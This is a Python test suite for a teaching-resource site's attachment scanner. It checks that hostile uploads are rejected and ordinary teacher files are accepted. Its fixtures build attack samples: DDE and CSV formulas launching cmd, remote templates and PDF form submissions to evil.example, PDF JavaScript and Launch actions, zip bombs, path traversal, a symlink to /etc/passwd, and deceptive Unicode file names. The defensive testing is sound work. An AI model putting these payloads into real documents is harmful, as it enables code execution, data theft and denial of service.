"""An attachment that would run, fetch, burst or deceive is refused with what and how to mend; what teachers hand in is not."""

from __future__ import annotations

import multiprocessing
import random
import re
import signal
import struct
import subprocess
import sys
import threading
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from conftest import ROOT, Examine, Run
from hypothesis import given, settings
from hypothesis import strategies as st
from jidi.load.inspect import Fault, fault_in
from jidi.load.inspect.pdf import _walker
from jidi.load.names import odd, shown
from libreoffice import converted
from pikepdf import Array, Dictionary, Name, String

from trust import hostile
from trust.hostile import OFFICE, OLE, action, changed, document, entry, in_root, noted, packed, pdf, picture, related, slides, with_part, workbook

RESOURCE = "bases/cz-shuxue/resources/yici-hanshu.md"
FILES = "bases/cz-shuxue/files/2026"
PK = packed({"a.txt": b"x"})
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"

Made = tuple[str, Callable[[], bytes], str]
HOSTILE: dict[str, Made] = {
    # Office: what runs
    "a macro": ("a.docx", lambda: with_part(document(), "word/vbaProject.bin", OLE), "宏（word/vbaProject.bin）"),
    "a macro by another name": ("a.docx", lambda: with_part(document(), "word/media/image1.bin", OLE), "藏着另一个文件"),
    "a macro by its relation": ("a.docx", lambda: related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin"), "x.bin"),
    "a document of the type for macros": (
        "a.docx",
        lambda: changed(document(), "[Content_Types].xml", lambda body: body.replace(b"wordprocessingml.document.main", b"word.document.macroEnabled.main")),
        "macroEnabled",
    ),
    "a sheet of macros": ("a.xlsx", lambda: with_part(workbook(), "xl/macrosheets/sheet1.xml", b"<a/>"), "宏表"),
    "a sheet of macros by its type": ("a.xlsx", lambda: with_part(workbook(), "xl/x.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml"), "宏表"),
    "xlsb called xlsx": ("a.xlsx", lambda: packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"x"}), "不是 xlsx"),
    "an object": ("a.pptx", lambda: with_part(slides(), "ppt/embeddings/oleObject1.bin", OLE), "嵌入的对象"),
    "an old workbook within": ("a.pptx", lambda: with_part(slides(), "ppt/embeddings/a.xls", OLE), "嵌入的对象"),
    "a program within": ("a.docx", lambda: with_part(document(), "word/media/image1.png", b"MZ" + b"x" * 99), "藏着另一个文件"),
    "a zip within": ("a.docx", lambda: with_part(document(), "word/media/image1.png", PK), "藏着另一个文件"),
    "a zip called workbook within": ("a.docx", lambda: with_part(document(), "word/embeddings/a.xlsx", PK), "内容不是 xlsx"),
    "a macro in the workbook within": (
        "a.docx",
        lambda: with_part(document(), "word/embeddings/a.xlsx", with_part(workbook(), "xl/vbaProject.bin", OLE)),
        "嵌着的“word/embeddings/a.xlsx”里面有宏",
    ),
    "six documents one in another": ("a.docx", lambda: nested(6), "一层套一层"),
    "ActiveX": ("a.docx", lambda: with_part(document(), "word/activeX/activeX1.xml", b"<a/>"), "ActiveX"),
    "ActiveX by its relation": ("a.docx", lambda: inner(f"{OFFICE}/control", "x/x.xml"), "ActiveX"),
    "a page that is merged in": ("a.docx", lambda: inner(f"{OFFICE}/aFChunk", "x.mht"), "altChunk"),
    "buttons that call": ("a.docx", lambda: with_part(document(), "customUI/customUI.xml", b'<customUI onLoad="x"/>'), "自定义的按钮"),
    "a button that starts a program": ("a.pptx", lambda: slides("ppaction://program"), "运行程序"),
    "DDE": ("a.docx", lambda: document('DDE c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "启动别的程序的域（DDE c:"),
    "DDEAUTO letter by letter": ("a.docx", lambda: document(" ddeauto c:\\\\x.exe", split=True), "启动别的程序的域"),
    "DDE in a simple field": ("a.docx", lambda: document("DDEAUTO cmd", simple=True), "启动别的程序的域"),
    "DDE in UTF-16": ("a.docx", lambda: changed(document("DDE cmd x"), "word/document.xml", in_utf16), "启动别的程序的域"),
    "DDE in a workbook": (
        "a.xlsx",
        lambda: with_part(workbook(), "xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
        "DDE",
    ),
    "DDE in a formula": ("a.xlsx", lambda: workbook("=cmd|'/c calc'!A0"), "启动别的程序的公式"),
    "DDE in a csv": ("a.csv", lambda: "姓名,分\n甲,=cmd|'/c calc'!A0\n".encode(), "启动别的程序的公式"),
    # Office: what fetches
    "a template elsewhere": ("a.docx", lambda: related("attachedTemplate", "https://evil.example/a.dotm"), "外面的模板：“https://evil"),
    "a template on a server": ("a.docx", lambda: related("attachedTemplate", "file://\\\\10.0.0.1\\a.dotm"), "外面的模板"),
    "an object elsewhere": ("a.docx", lambda: related("oleObject", "mhtml:https://evil.example/!x"), "外面的对象"),
    "a frame": ("a.docx", lambda: related("frame", "https://evil.example/"), "外面的网页"),
    "a document below": ("a.docx", lambda: related("subDocument", "file:///C:/a.docx"), "子文档"),
    "a picture elsewhere": ("a.docx", lambda: related("image", "http://evil.example/a.png"), "网上的图片"),
    "a picture on a server": ("a.docx", lambda: related("image", "\\\\10.0.0.1\\a.png"), "网上的图片"),
    "a picture elsewhere, spelled oddly": ("a.docx", lambda: respelled(related("image", "http://evil.example/a.png")), "网上的图片"),
    "a workbook elsewhere": ("a.docx", lambda: related("externalLinkPath", "b.xlsx"), "别的工作簿"),
    "a link that runs": ("a.docx", lambda: related("hyperlink", "javascript:alert(1)"), "不是网址"),
    "a link that searches": ("a.docx", lambda: related("hyperlink", "search-ms:query=x"), "不是网址"),
    "an entity": ("a.docx", lambda: changed(document(), "word/_rels/document.xml.rels", lambda body: b"<!DOCTYPE a [<!ENTITY b 'c'>]>" + body[55:]), "坏了"),
    # Office: what cannot be seen into
    "a password": ("a.docx", lambda: hostile.locked(document()), "加了密码"),
    "an old document": ("a.docx", lambda: OLE, "旧的格式"),
    "bytes behind": ("a.docx", lambda: document() + b"<script>", "后面跟着"),
    "bytes before": ("a.docx", lambda: b"MZ" + document(), "夹着清单上没有的"),
    # zips
    "a bomb by ratio": ("a.zip", lambda: packed({"a.txt": b"\0" * 60_000_000}), "压缩炸弹"),
    "a bomb by total": ("a.zip", lambda: packed({f"{number}.txt": b"\0" * 8_000_000 for number in range(30)}), "解压后太大"),
    "a bomb by count": ("a.zip", lambda: packed({f"{number}.txt": b"" for number in range(6000)}), "文件太多"),
    "a bomb that overlaps": ("a.zip", hostile.overlapping, "打不开"),
    "a bomb that lies": ("a.zip", hostile.lying, "比它说的大"),
    "a bomb in a document": ("a.docx", lambda: with_part(document(), "word/media/a.xml", b" " * 60_000_000), "压缩炸弹"),
    "a zip in a zip": ("a.zip", lambda: packed({"b.zip": PK}), "又有压缩包"),
    "a zip in a zip by another name": ("a.zip", lambda: packed({"b.dat": PK}), "又有压缩包"),
    "a rar": ("a.zip", lambda: packed({"b.txt": b"Rar!\x1a\x07\0x"}), "又有压缩包"),
    "..": ("a.zip", lambda: packed({"../../evil.txt": b"x"}), "“..”"),
    "an absolute name": ("a.zip", lambda: packed({"/etc/evil.txt": b"x"}), "整台电脑"),
    "a drive": ("a.zip", lambda: packed({"C:/evil.txt": b"x"}), "整台电脑"),
    "a backslash": ("a.zip", lambda: hostile.renamed(b"aXXbevil.txt", b"a\\..\\vil.txt"[:12]), "Windows 上不能用"),
    "NUL in a name": ("a.zip", lambda: hostile.renamed(b"a.exe0.txt", b"a.exe\0.txt"), "看不见的字符 U+0000"),
    "a device": ("a.zip", lambda: packed({"docs/CON.txt": b"x"}), "设备的名字"),
    "a device with a number": ("a.zip", lambda: packed({"com1": b"x"}), "设备的名字"),
    "a dot at the end": ("a.zip", lambda: packed({"a.txt.": b"x"}), "末尾"),
    "text that turns back": ("a.zip", lambda: packed({"报告\u202etxt.exe": b"x"}), "U+202E"),
    "a letter that is not seen": ("a.zip", lambda: packed({"报告\u200b.docx": b"x"}), "U+200B"),
    "a blank letter": ("a.zip", lambda: packed({"报告\u3164.docx": b"x"}), "U+3164"),
    "a look-alike": ("a.zip", lambda: packed({"pаper.txt": b"x"}), "外文字母"),
    "case twins": ("a.zip", lambda: packed({"A.txt": b"x", "a.txt": b"y"}), "同一个文件"),
    "accent twins": ("a.zip", lambda: packed({"caf\u00e9.txt": b"x", "cafe\u0301.txt": b"y"}), "同一个文件"),
    "a link": ("a.zip", lambda: packed([(entry("a.txt", 0o120777), b"/etc/passwd")]), "符号链接"),
    "a name in no alphabet": ("a.zip", lambda: hostile.renamed(b"zzzz.txt", b"\xff\xfe\xff\xff.txt"), "认不出的字节"),
    "text that turns back, in GB 18030": ("a.zip", lambda: hostile.renamed(b"zzzz.txt", "\u202e".encode("gb18030") + b".txt"), "U+202E"),
    "a locked zip": ("a.zip", lambda: flagged(PK), "加了密码"),
    "a zip packed oddly": ("a.zip", lambda: packed({"a.txt": b"x"}, zipfile.ZIP_LZMA), "少见的压缩方法"),
    "a program in a zip": ("a.zip", lambda: packed({"课件.exe": b"x"}), "里面有程序：“课件.exe”"),
    "a program by another name": ("a.zip", lambda: packed({"课件.dat": b"MZ" + b"x" * 99}), "里面有程序"),
    "a document in a zip": ("a.zip", lambda: packed({"a.docx": with_part(document(), "word/vbaProject.bin", OLE)}), "“a.docx”里面有宏"),
    "a pdf in a zip": ("a.zip", lambda: packed({"a.pdf": pdf(action(S=Name.JavaScript, JS=String("x")))}), "“a.pdf”"),
    "an old document in a zip": ("a.zip", lambda: packed({"a.doc": OLE}), "旧格式"),
    **{f"{suffix} in a zip": ("a.zip", lambda suffix=suffix: packed({f"a.{suffix}": b"x"}), f"a.{suffix}") for suffix in (  # type: ignore[misc]
        "exe", "BAT", "js", "vbs", "lnk", "scr", "html", "svg", "hta", "ps1", "docm", "xlsb", "rar", "7z", "url", "cmd", "jar", "mht"
    )},
    # pictures and texts
    "a zip behind a png": ("a.png", lambda: picture("PNG") + PK, "藏着压缩包"),
    "a zip behind a jpg": ("a.jpg", lambda: picture("JPEG") + PK + b"\xff\xd9", "藏着压缩包"),
    "a zip behind a gif": ("a.gif", lambda: picture("GIF") + PK, "藏着压缩包"),
    "a zip behind a pdf": ("a.pdf", lambda: pdf() + PK + b"%%EOF", "藏着压缩包"),
    "a rar behind a jpg": ("a.jpg", lambda: picture("JPEG") + b"Rar!\x1a\x07\x01\0\xff\xd9", "藏着压缩包"),
    "a pdf behind a png": ("a.png", lambda: picture("PNG") + pdf() + b"IEND", "藏着pdf"),
    "a page in a jpg": ("a.jpg", lambda: picture("JPEG")[:-2] + b"<ScRipt>alert(1)</script>\xff\xd9", "藏着网页程序"),
    "a page in a gif": ("a.gif", lambda: picture("GIF") + b"<html>", "藏着网页程序"),
    "svg": ("a.svg", lambda: SVG, "不收 .svg"),
    "svg called png": ("a.png", lambda: SVG, "内容不是 png"),
    "a page called txt": ("a.txt", lambda: "\ufeff\n<!DOCTYPE html><script>x</script>".encode(), "其实是网页"),
    "svg called txt": ("a.txt", lambda: SVG, "其实是网页"),
    "bytes called txt": ("a.txt", lambda: b"MZ\0\0\x01", "控制字符"),
    # pdf
    "bytes before a pdf": ("a.pdf", lambda: b"GIF89a" + pdf(), "内容不是 pdf"),
    "a script": ("a.pdf", lambda: pdf(action(S=Name.JavaScript, JS=String("app.alert(1)"))), "/OpenAction"),
    "a script for later": ("a.pdf", lambda: pdf(noted(A=Dictionary(S=Name.JavaScript, JS=String("x")))), "JavaScript"),
    "a script packed away": (
        "a.pdf",
        lambda: pdf(noted(A=Dictionary(S=Name.JavaScript, JS=String("x"))), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "JavaScript",
    ),
    "a script spelled oddly": ("a.pdf", lambda: pdf(noted(A=Dictionary(S=Name.JavaScript, JS=String("x")))).replace(b"/JavaScript", b"/J#61v#61Script"), "JavaScript"),
    "a named script": ("a.pdf", lambda: pdf(in_root("/Names", lambda _: Dictionary(JavaScript=Dictionary(Names=Array([]))))), "JavaScript"),
    "a page opened on the net": ("a.pdf", lambda: pdf(action(S=Name.URI, URI=String("http://evil.example/"))), "/OpenAction"),
    "a program": ("a.pdf", lambda: pdf(noted(A=Dictionary(S=Name.Launch, F=String("cmd.exe")))), "启动别的程序"),
    "acts of a page": ("a.pdf", lambda: pdf(lambda made: made.pages[0].__setitem__("/AA", Dictionary(O=Dictionary(S=Name.GoTo)))), "/AA"),
    "a file": ("a.pdf", lambda: pdf(hostile.with_file), "夹着别的文件"),
    "a file pinned to a page": ("a.pdf", lambda: pdf(noted(Subtype=Name.FileAttachment)), "夹着别的文件"),
    "media": ("a.pdf", lambda: pdf(noted(Subtype=Name.RichMedia)), "RichMedia"),
    "XFA": ("a.pdf", lambda: pdf(in_root("/AcroForm", lambda _: Dictionary(XFA=Array([])))), "XFA"),
    "a form that sends": ("a.pdf", lambda: pdf(noted(A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))), "发出去的表单"),
    "a locked pdf": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "加了密码"),
    "a script in a pdf that may not be printed": (
        "a.pdf",
        lambda: pdf(action(S=Name.JavaScript, JS=String("x")), encryption=pikepdf.Encryption(owner="a", user="")),
        "运行动作",
    ),
    "a pdf of nothing": ("a.pdf", lambda: b"%PDF-1.7\n" + b"0" * 5000 + b"\n%%EOF\n", "打不开"),
    "a pdf that bursts": ("a.pdf", lambda: bursting(), "没有看完"),
    "a pdf of a million objects": ("a.pdf", lambda: crowded(), "没有看完"),
}  # fmt: skip


def nested(times: int) -> bytes:
    made = document()
    for _ in range(times):
        made = with_part(document(), "word/embeddings/a.docx", made)
    return made


def inner(kind: str, target: str) -> bytes:
    """A Word file with a relation to a part of its own."""
    one = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"/></Relationships>'.encode()
    return changed(document(), "word/_rels/document.xml.rels", lambda body: body.replace(b"</Relationships>", one))


def in_utf16(body: bytes) -> bytes:
    return body.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def respelled(data: bytes) -> bytes:
    return changed(data, "word/_rels/document.xml.rels", lambda body: body.replace(b'"External"', b'"&#69;xternal"'))


def flagged(data: bytes) -> bytes:
    whole = bytearray(data)
    whole[6] |= 1
    whole[whole.find(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def bursting() -> bytes:
    """100 KB of packed objects, 100 MB of blanks before a script."""
    blanks, script = b"5 0 " + b" " * 100_000_000, b"<</S/JavaScript/JS(x)>>"
    body = zlib.compress(blanks + script, 9)
    whole, begins = b"%PDF-1.5\n", list[int]()
    for number, text in enumerate(
        [
            b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
            b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(blanks), len(body), body),
        ],
        1,
    ):
        begins.append(len(whole))
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows = [(0, 0), *((1, at) for at in begins), (2, 4), (1, len(whole))]
    table = b"".join(struct.pack(">BLB", kind, at, 0) for kind, at in rows)
    whole += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n" % (len(table), table)
    return whole + b"startxref\n%d\n%%%%EOF" % (whole.rfind(b"6 0 obj"))


def crowded() -> bytes:
    """It says that there are ten million objects."""
    return pdf().replace(b"/Size ", b"/Size 9999999 /X ")


BOMBS = {
    name for name in HOSTILE if name.startswith(("a bomb by ratio", "a bomb by total", "a bomb in", "a pdf that bursts", "a password"))
}  # making them takes long


@pytest.mark.parametrize("name", [pytest.param(name, marks=pytest.mark.slow) if name in BOMBS else name for name in HOSTILE])
def test_what_is_hostile_is_refused_and_said(name: str) -> None:
    file, make, words = HOSTILE[name]
    fault = fault_in(file, make())
    assert isinstance(fault, Fault) and words in fault.problem, fault
    assert fault.mend and not any(sign in fault.problem for sign in "\u202e\u200b\0")


def word_like() -> bytes:
    """What Word and WPS leave in ordinary documents: a template of this computer, a pasted picture's old place, fields, custom parts."""
    made = related("attachedTemplate", "file:///C:\\Users\\teacher\\Templates\\school.dotx")
    parts = hostile.unpacked(with_part(made, "customXml/item1.xml", b"<b:Sources xmlns:b='x'/>"))
    parts["docProps/custom.xml"] = b"<Properties><property name='KSOProductBuildVer'/></Properties>"
    field = b'<w:p><w:r><w:instrText>INCLUDEPICTURE "C:/Temp/ksohtml/wps1.png" \\* MERGEFORMATINET</w:instrText></w:r></w:p>'
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", field + b"<w:sectPr", 1)
    return packed(parts)


ORDINARY: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a document with a link": ("a.docx", document),
    "a document with page numbers": ("a.docx", lambda: document("PAGE")),
    "a document that speaks of DDE": ("a.docx", lambda: document('TOC \\o "DDE"')),
    "a document of Word or WPS": ("a.docx", word_like),
    "a document with a workbook": ("a.docx", lambda: with_part(document(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook())),
    "slides with a chart and a button": ("a.pptx", slides),
    "a workbook": ("a.xlsx", workbook),
    "a workbook of openpyxl, with bars in texts": ("a.xlsx", hostile.openpyxl_workbook),
    "a pdf that opens at a page": ("a.pdf", lambda: pdf(lambda made: made.Root.__setitem__("/OpenAction", Array([made.pages[0].obj, Name.Fit])))),
    "a pdf with a link and fonts of odd names": (
        "a.pdf",
        lambda: pdf(
            lambda made: (
                noted(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.example.cn/JavaScript")))(made),
                made.pages[0].__setitem__("/Resources", Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font), JS=Dictionary(Type=Name.Font)))),
                made.docinfo.__setitem__("/Title", "/JavaScript /AA /Launch"),
            )
        ),
    ),
    "a pdf that may not be printed": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user=""))),
    "a zip of a Chinese Windows": ("a.zip", lambda: hostile.renamed(b"zzzz.txt", "实验.txt".encode("gbk"))),
    "a png": ("a.png", lambda: picture("PNG")),
    "a jpg": ("a.JPG", lambda: picture("JPEG")),
    "a jpg with a second picture behind, as phones make": ("a.jpg", lambda: picture("JPEG") + picture("JPEG")),
    "a gif": ("a.gif", lambda: picture("GIF")),
    "a text that explains HTML": ("a.txt", lambda: "网页以 <html> 开头，程序写在 <script> 里。".encode()),
    "a csv with sums and signs": ("a.csv", lambda: "名,分\n甲,-3\n乙,=SUM(A1:A2)\n丙,a|b!\n".encode()),
    "a zip of all this": (
        "a.zip",
        lambda: packed(
            {
                "第一课时/": b"",
                "第一课时/学案 α粒子（Δt）.docx": document(),
                "课件.pptx": slides(),
                "a.pdf": pdf(),
                "声音.mp3": b"ID3",
                "é.txt": b"x",
                "a.py": b"#!",
            }
        ),
    ),
    "a zip of stored files": ("a.zip", lambda: packed({"a.pdf": pdf(), "b.docx": document()}, zipfile.ZIP_STORED)),
    "a zip of nothing": ("a.zip", lambda: packed({})),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_what_teachers_hand_in_is_taken(name: str) -> None:
    file, make = ORDINARY[name]
    assert fault_in(file, make()) is None


def test_the_samples_attachments_are_taken() -> None:
    files = [path for path in (ROOT / "bases").glob("*/files/**/*") if path.is_file()]
    assert len(files) > 30 and {str(path): fault for path in files if (fault := fault_in(path.name, path.read_bytes()))} == {}


@pytest.mark.slow
def test_what_libreoffice_writes_is_taken(tmp_path: Path) -> None:
    for file, data, into in (("a.docx", word_like(), ("docx", "pdf")), ("b.xlsx", workbook(), ("xlsx",))):
        for suffix in into:
            (tmp_path / suffix).mkdir(exist_ok=True)
            (source := tmp_path / suffix / file).write_bytes(data)
            made = converted(source, suffix)
            assert fault_in(made.name, made.read_bytes()) is None


@pytest.mark.slow
def test_each_is_found_where_it_is_named_and_is_not_published(city: Path, examine: Examine, jidi: Run, tmp_path: Path) -> None:
    """All of them in one city: as many findings, each at its line, none of the files on the site."""
    rows, made = [], 0
    for number, (name, (file, make, _)) in enumerate(HOSTILE.items()):
        suffix = file.rsplit(".", 1)[1]
        if name not in BOMBS and suffix != "svg":
            made += 1
            (city / FILES / f"evil{number}.{suffix}").write_bytes(make())
            rows.append(f"  - {{文件: 2026/evil{number}.{suffix}, 名称: 附件{number}}}\n")
    path = city / RESOURCE
    text = path.read_text("utf-8")
    line = next(one for one in text.splitlines(keepends=True) if "2026/xuean.txt" in one)
    path.write_text(text.replace(line, line + "".join(rows)), "utf-8")
    found = [one for one in examine(city) if one.code == "FJ03"]
    first = text[: text.index(line)].count("\n") + 2
    assert [one.place.line for one in found] == list(range(first, first + made))
    assert all(one.fix and one.level == "error" for one in found)
    jidi("--root", city, "build", "--out", tmp_path / "site")
    laid = {path.name for path in (tmp_path / "site").rglob("*") if path.is_file()}
    assert "xuean.txt" in laid and not [name for name in laid if name.startswith("evil")]


NAMES = {
    "CON.txt": "设备的名字",
    "aux": "设备的名字",
    "a .": "末尾",
    "a\\b.txt": "Windows 上不能用",
    "a:b.txt": "Windows 上不能用",
    "x\u202etxt.docx": "U+202E",
    "x\u200b.docx": "U+200B",
    "x\x1b[2J.docx": "U+001B",
    "pаper.docx": "外文字母",
}


def test_names_that_are_others_elsewhere(city: Path, examine: Examine) -> None:
    for name in NAMES:
        (city / FILES / name).write_bytes(b"x")
    found = {one.place.file: one for one in examine(city) if one.code == "FJ05"}
    assert {file.rsplit("/", 1)[1] for file in found} == NAMES.keys()
    for name, words in NAMES.items():
        one = found[f"{FILES}/{name}"]
        assert words in one.message and one.fix and not set(one.message) & set("\u202e\u200b\x1b")


@pytest.mark.parametrize(
    ("first", "second", "words"),
    [
        ("2026/Tu.txt", "2026/tu.txt", "大小写"),
        ("2026/caf\u00e9.txt", "2026/cafe\u0301.txt", "重音的写法"),
        ("2027/tu.txt", "2027/TU.txt", "大小写"),
        ("shuju/a.txt", "Shuju/b.txt", "大小写"),
    ],
)
def test_names_that_become_one(city: Path, examine: Examine, first: str, second: str, words: str) -> None:
    for name in (first, second):
        path = city / FILES / ".." / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(name.encode())
    found = [one for one in examine(city) if one.code == "FJ05"]
    assert len(found) == 1 and words in found[0].message


@pytest.mark.parametrize(
    "link",
    ["bases/cz-shuxue/files/2026/a.txt", "bases/cz-shuxue/files/folder", "bases/other", "bases/cz-shuxue/resources/a.md", "content/a.md", "content/standards"],
)
def test_no_link_is_followed(city: Path, examine: Examine, link: str) -> None:
    path = city / link
    if path.is_dir():
        path = path / "folder"
    for target in ("/etc/hostname", "/etc", "../base.yml", "nowhere", "."):
        path.symlink_to(target)
        found = [one for one in examine(city) if one.code == "WJ07"]
        assert [one.place.file for one in found] == [str(path.relative_to(city))] and found[0].fix
        path.unlink()


REAL = {file: (ROOT / "bases" / path).read_bytes() for file, path in (
    ("a.pdf", "gz-wuli/files/2024/shiyan-kaichu-wenjuan.pdf"),
    ("a.docx", "cz-yingyu/files/2024/ketang-yongyu-ka.docx"),
    ("a.pptx", "gz-wuli/files/2026/lengci-dinglv.pptx"),
    ("a.xlsx", "gz-wuli/files/2024/tanli-shiyan-shuju.xlsx"),
    ("a.png", "xx-yuwen/files/2026/qingzizu-pianpangka.png"),
)}  # fmt: skip
REAL["a.zip"] = packed({f"b{file[1:]}": data for file, data in REAL.items()})
HURTS = st.lists(st.tuples(st.integers(0, 10**7), st.sampled_from(["set", "cut", "twice", "drop"]), st.binary(min_size=1, max_size=9)), min_size=1, max_size=6)


def hurt(data: bytes, hurts: list[tuple[int, str, bytes]]) -> bytes:
    """Bytes changed, cut off, repeated and dropped; half of the places lie at the ends, where files say what they are."""
    made = bytearray(data)
    for place, how, given_ in hurts:
        at = place // 2 % (len(made) + 1) if place % 2 else len(made) - min(len(made), place // 2 % 1500)
        if how == "set":
            made[at : at + len(given_)] = given_
        elif how == "cut":
            del made[at:]
        elif how == "twice":
            made[at:at] = made[max(0, at - 500) : at]
        else:
            del made[at : at + len(given_)]
    return bytes(made)


def looked_at(file: str, data: bytes) -> None:
    start = time.process_time()
    fault = fault_in(file, data)
    assert fault is None or (fault.problem and fault.mend)
    assert time.process_time() - start < 10  # it ends: a guard against what hangs, not a measure


@pytest.mark.slow
@settings(max_examples=600, deadline=None)
@given(st.sampled_from(sorted(REAL)), HURTS)
def test_no_damage_raises_or_lasts(file: str, hurts: list[tuple[int, str, bytes]]) -> None:
    looked_at(file, hurt(REAL[file], hurts))


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["docx", "xlsx", "pptx", "pdf", "png", "jpg", "gif", "webp", "mp3", "zip", "txt", "csv", "svg", ""]), st.binary(max_size=300), st.booleans()
)
def test_no_bytes_raise(suffix: str, data: bytes, begun: bool) -> None:
    starts = {"pdf": b"%PDF-1.7\n", "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff", "gif": b"GIF89a", "zip": b"PK\x03\x04", "docx": b"PK\x03\x04"}
    ends = {"pdf": b"%%EOF", "png": b"IEND", "jpg": b"\xff\xd9", "zip": b"PK\x05\x06" + b"\0" * 18, "docx": b"PK\x05\x06" + b"\0" * 18}
    looked_at(f"a.{suffix}", starts.get(suffix, b"") + data + ends.get(suffix, b"") if begun else data)


@given(st.text(st.characters(codec="utf-8"), min_size=1, max_size=40))
def test_every_name_is_said_readably(name: str) -> None:
    """What is shown of a name never turns a line around or breaks it, and a name of plain letters is never odd."""
    assert all(sign.isprintable() for sign in shown(name))
    assert odd(name) == "" or odd(name + ".txt") == "" or not re.fullmatch(r"[a-z0-9_-]{1,40}", name) or name.lower() in {"con", "nul", "aux", "prn"}


ASKED = """
import re, resource, sys, time
sys.path.insert(0, sys.argv[1])
from jidi.load.inspect import fault_in
from jidi.load.inspect.pdf import _walker
def peak(process):
    return int(re.search("VmHWM: *([0-9]+)", open(f"/proc/{process}/status").read().replace("\\t", " "))[1]) / 1024
data = open(sys.argv[2], "rb").read()
before, start = peak("self"), time.process_time()
fault_in(sys.argv[2], data)
most = peak("self") - before + (peak(_walker().process.pid) if _walker().process else 0)
_walker().close()
child = resource.getrusage(resource.RUSAGE_CHILDREN)
print(time.process_time() - start + child.ru_utime + child.ru_stime, most)
"""
DEAR: dict[str, tuple[str, Callable[[], bytes]]] = {
    **{name: (made[0], made[1]) for name, made in HOSTILE.items() if name in BOMBS},
    **{name: HOSTILE[name][:2] for name in ("a bomb by count", "a bomb that lies", "six documents one in another", "a pdf of a million objects")},
    "a list longer than it says": (
        "a.zip",
        lambda: packed({f"{number}": b"" for number in range(40_000)}).replace(struct.pack("<HH", 40_000, 40_000), b"\1\0\1\0"),
    ),
    "a million tags": ("a.docx", lambda: with_part(document(), "word/header9.xml", b"<w>" + b"<a/>" * 990_000 + b"<instrText/></w>")),
    "a csv of bars": ("a.csv", lambda: b",=|\n" * 12_000_000),
    "noise for a picture": ("a.jpg", lambda: b"\xff\xd8\xff" + random.Random(1).randbytes(48_000_000) + b"\xff\xd9"),
    "a long text": ("a.txt", lambda: b"x" * 50_000_000 + "\U0001f600".encode()),
    "a pdf of as many objects as may be": ("a.pdf", lambda: hostile.crowd(39_000)),
}


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="the system does not say how much memory a process had at most")
@pytest.mark.parametrize("name", DEAR)
def test_none_hangs_or_takes_two_hundred_megabytes(name: str, tmp_path: Path) -> None:
    """Beside the file itself; the process beside, and its start, are counted."""
    file, make = DEAR[name]
    (tmp_path / file).write_bytes(make())
    done = subprocess.run([sys.executable, "-c", ASKED, ROOT / "scripts", tmp_path / file], capture_output=True, check=True, text=True)
    seconds, megabytes = map(float, done.stdout.split())
    print(f"{name}: {seconds:.2f} s, {megabytes:.0f} MB")
    assert seconds < 10 and megabytes < 200, done.stdout


def test_a_pdf_that_kills_its_reader_is_refused_and_the_next_is_read() -> None:
    assert fault_in("a.pdf", pdf()) is None
    process = _walker().process
    assert process
    process.kill()
    process.wait()
    assert fault_in("a.pdf", pdf()) is None
    dying = _walker()._started()
    dying.send_signal(signal.SIGSTOP)
    killer = threading.Timer(0.2, dying.kill)
    killer.start()
    fault = fault_in("a.pdf", pdf())
    assert fault and "没有看完" in fault.problem
    assert fault_in("a.pdf", pdf()) is None


def test_a_forked_process_has_a_reader_of_its_own() -> None:
    assert fault_in("a.pdf", pdf()) is None
    with multiprocessing.get_context("fork").Pool(2) as pool:
        answers = pool.starmap(fault_in, [("a.pdf", pdf()), ("a.pdf", pdf(noted(Subtype=Name.RichMedia)))] * 10)
    assert [one is None for one in answers] == [True, False] * 10
    assert fault_in("a.pdf", pdf()) is None
